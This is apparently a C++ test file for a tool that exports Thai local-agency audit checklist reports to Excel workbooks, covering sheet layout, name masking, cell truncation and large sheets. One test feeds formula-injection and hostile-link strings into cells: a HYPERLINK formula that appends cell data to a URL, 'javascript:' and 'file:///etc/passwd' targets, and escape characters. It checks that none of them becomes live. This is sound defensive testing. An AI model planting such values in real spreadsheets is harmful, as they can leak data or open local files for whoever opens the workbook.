#include <doctest/doctest.h>
#include <fmt/format.h>

#include <algorithm>
#include <memory>
#include <string>

#include "archive/archive.h"
#include "load/load.h"
#include "report/cell_text.h"
#include "report/output.h"
#include "report/xlsx_book.h"
#include "sample.h"

using namespace oit;

namespace {

bool Has(const std::string& text, const std::string& part) { return text.find(part) != text.npos; }

size_t CountOf(const std::string& text, const std::string& part) {
  size_t count = 0;
  for (size_t at = text.find(part); at != text.npos; at = text.find(part, at + 1)) ++count;
  return count;
}

CheckedReport ReportOf(sample::Audited* audited) {
  CheckedReport report;
  report.document = std::move(audited->document);
  report.checklist = audited->checklist;
  report.pack = &audited->pack;
  return report;
}

std::string WorkbookOf(sample::Audited audited, const OutputOptions& options = {}) {
  std::unique_ptr<Output> output = OpenOutput(OutputFormat::kXlsx, options);
  REQUIRE(output->Add(ReportOf(&audited)).ok());
  Result<std::string> bytes = output->Finish();
  REQUIRE(bytes.ok());
  return *bytes;
}

std::string PartOf(const std::string& workbook, const std::string& name) {
  Result<Archive> archive = Archive::Open(workbook, "checked.xlsx");
  REQUIRE(archive.ok());
  return archive->Has(name) ? *archive->Read(name) : "";
}

// Every part that holds cells or links.
std::string AllSheets(const std::string& workbook) {
  Result<Archive> archive = Archive::Open(workbook, "checked.xlsx");
  REQUIRE(archive.ok());
  std::string all;
  for (const std::string& name : archive->names()) {
    if (name.starts_with("xl/worksheets/")) all += *archive->Read(name);
  }
  return all;
}

Document Read(const std::string& workbook) {
  Result<Document> document = LoadBytes(workbook, "checked.xlsx");
  REQUIRE(document.ok());
  return std::move(*document);
}

}  // namespace

TEST_CASE("the workbook of a report reads back as its checklist, and what lies under it") {
  const Document document = Read(WorkbookOf(sample::Results()));
  CHECK(document.sheets ==
        std::vector<std::string>{"รายการตรวจ", "องค์ประกอบ", "ข้อสังเกต", "อ่านผลอย่างไร"});
  CHECK(Has(document.source, "องค์การบริหารส่วนตำบลตัวอย่าง"));
  CHECK(Has(document.source, "ชื่องาน · กฎหมายที่เกี่ยวข้อง"));
  CHECK(Has(document.source, "✘ ยังไม่ครบ"));
  CHECK(Has(document.source, "◐ ต้องดูเอง"));
  CHECK(Has(document.source, "มาตรการที่ 8 ข้ามข้อ 4 และ 5"));
  // What it does not mention has not failed.
  CHECK(Has(document.source, "· ไม่ได้กล่าวถึง"));
  OutputOptions english;
  english.language = Language::kEnglish;
  CHECK(Read(WorkbookOf(sample::Results(), english)).sheets.front() == "Checklist");
}

TEST_CASE("measures stand in their sheet as the report tells them") {
  const Document document = Read(WorkbookOf(sample::Measures()));
  CHECK(std::count(document.sheets.begin(), document.sheets.end(), "มาตรการในรายงาน") == 1);
  CHECK(Has(document.source, "ป้องกันการทุจริต"));
  CHECK(Has(document.source, "1. จัดทำประกาศ"));
}

TEST_CASE("sheets stay readable on the screen and on A4") {
  const std::string workbook = WorkbookOf(sample::Results());
  const std::string sheet = PartOf(workbook, "xl/worksheets/sheet1.xml");
  CHECK(Has(sheet, "<autoFilter ref=\"A4:J18\"/>"));
  CHECK(Has(sheet, "state=\"frozen\""));
  CHECK(Has(sheet, "<pageSetUpPr fitToPage=\"1\"/>"));
  CHECK(Has(sheet, "paperSize=\"9\" fitToHeight=\"0\" orientation=\"landscape\""));
  CHECK(Has(sheet, "location=\"'องค์ประกอบ'!A5\""));
  CHECK(Has(PartOf(workbook, "xl/workbook.xml"), "'รายการตรวจ'!$1:$4</definedName>"));
  CHECK(Has(PartOf(workbook, "xl/styles.xml"), "TH Sarabun New"));
}

TEST_CASE("the same report gives the same bytes") {
  CHECK(WorkbookOf(sample::Results()) == WorkbookOf(sample::Results()));
}

TEST_CASE("names are masked unless they are asked for; --only leaves out items") {
  const auto named = [](const OutputOptions& options) {
    sample::Audited audited = sample::Results();
    for (ElementResult& element : sample::Item(&audited.checklist, "O2").elements) {
      element.evidence[0].passage.quote = "นายสมชาย ใจดี นายกองค์การบริหารส่วนตำบล";
    }
    return Read(WorkbookOf(std::move(audited), options)).source;
  };
  OutputOptions options;
  CHECK_FALSE(Has(named(options), "ใจดี"));
  options.names = true;
  CHECK(Has(named(options), "ใจดี"));
  options.only = {Verdict::kReview};
  const std::string sheets = AllSheets(WorkbookOf(sample::Results(), options));
  CHECK(Has(sheets, "<t>O21</t>"));
  CHECK_FALSE(Has(sheets, "<t>O8</t>"));
}

TEST_CASE("no text of a document is more than text to a spreadsheet") {
  sample::Audited audited = sample::Results();
  const std::string formula = "=HYPERLINK(\"http://example.net/?\"&A1;\"เปิด\")";
  audited.checklist.facts.agency.name = "=1+1";
  audited.checklist.facts.title_text = "@SUM(A1)\x01\x1b[31m";
  int turn = 0;
  for (const char* quote :
       {formula.c_str(), "javascript:alert(1)", "external:\\\\server\\x", "internal:'x'!A1",
        "file:///etc/passwd", "a _x0041_ \x02\x0c z \xE0\xB8"}) {
    const std::vector<std::string> codes = {"O1", "O2", "O3", "O4", "O6", "O17"};
    ItemResult& item = sample::Item(&audited.checklist, codes[turn++]);
    item.topic_evidence[0].passage.quote = quote;
    for (ElementResult& element : item.elements) element.evidence[0].passage.quote = quote;
  }
  const std::string workbook = WorkbookOf(std::move(audited));
  const std::string sheets = AllSheets(workbook);
  CHECK_FALSE(Has(sheets, "<f>"));
  CHECK_FALSE(Has(sheets, "<f "));
  CHECK(Has(sheets, "<t>“=HYPERLINK(\"http://example.net/?\"&amp;A1;\"เปิด\")”</t>"));
  for (const char* scheme : {"Target=\"javascript", "Target=\"file", "Target=\"external"}) {
    CHECK_FALSE(Has(sheets, scheme));
  }
  CHECK_FALSE(Has(sheets, "\x1b"));
  CHECK_FALSE(Has(sheets, "\x02"));
  CHECK(Has(sheets, "_x005F_x0041_"));
  CHECK(Has(Read(workbook).source, formula));
}

TEST_CASE("a cell is cut where Excel ends, at the edge of a letter with its marks") {
  CHECK(CellText("ก\r\nข\tค\x07") == "ก\nข ค");
  std::string text;
  for (int i = 0; i < 20'000; ++i) text += "น้ำ";
  const std::string cut = CellText(text);
  CHECK(cut.ends_with("น้ำ…"));
  size_t units = 0;
  for (const char c : cut) units += (static_cast<unsigned char>(c) & 0xC0) != 0x80 ? 1 : 0;
  CHECK(units <= kCellUnits);
  CHECK(units > kCellUnits - 4);
  CHECK(CellText(text, 7) == "น้ำ…");
  CHECK(CellText("ก้้้้้้", 3).size() <= 9);
}

TEST_CASE("a hundred thousand rows, and more links than a sheet may have") {
  XlsxBook book;
  SheetFrame frame;
  frame.name = "แถว";
  frame.head = {"หัว"};
  frame.columns = {{"ก", 10}, {"ข", 10}};
  book.AddSheet(frame);
  for (int i = 0; i < 100'000; ++i) {
    const std::string address = fmt::format("https://www.example.go.th/{}", i * 7919 % 100'003);
    book.AddRow({{.text = address, .link = address}, {.text = std::to_string(i)}});
  }
  Result<std::string> bytes = book.Finish();
  REQUIRE(bytes.ok());
  const std::string sheet = PartOf(*bytes, "xl/worksheets/sheet1.xml");
  CHECK(CountOf(sheet, "<row ") == 100'002);
  CHECK(CountOf(sheet, "<hyperlink ") <= 65'530);
}

TEST_CASE("several reports are agencies by items, years apart") {
  sample::Audited results = sample::Results(), plan = sample::Plan();
  std::unique_ptr<Output> output = OpenOutput(OutputFormat::kXlsx, {});
  CHECK(output->Add(ReportOf(&results))->empty());
  CHECK(output->Add(ReportOf(&plan))->empty());
  output->AddUnread("locked.pdf", "ไฟล์มีรหัสผ่าน");
  const std::string workbook = *output->Finish();
  const Document document = Read(workbook);
  CHECK(document.sheets == std::vector<std::string>{"หน่วยงาน × ข้อ 2565", "หน่วยงาน × ข้อ 2568",
                                                    "ข้อที่ยังไม่ครบมากที่สุด", "รายหน่วยงาน",
                                                    "ไฟล์ที่ยังไม่ได้ตรวจ", "อ่านผลอย่างไร"});
  CHECK(Has(document.source, "ไฟล์มีรหัสผ่าน"));
  CHECK(Has(document.source, "สำนักปลัด: O8 O19"));
  // An item that no report failed is not among those failed most.
  const std::string failed = PartOf(workbook, "xl/worksheets/sheet3.xml");
  CHECK(Has(failed, "<t>O19</t>"));
  CHECK_FALSE(Has(failed, "<t>O5</t>"));
}
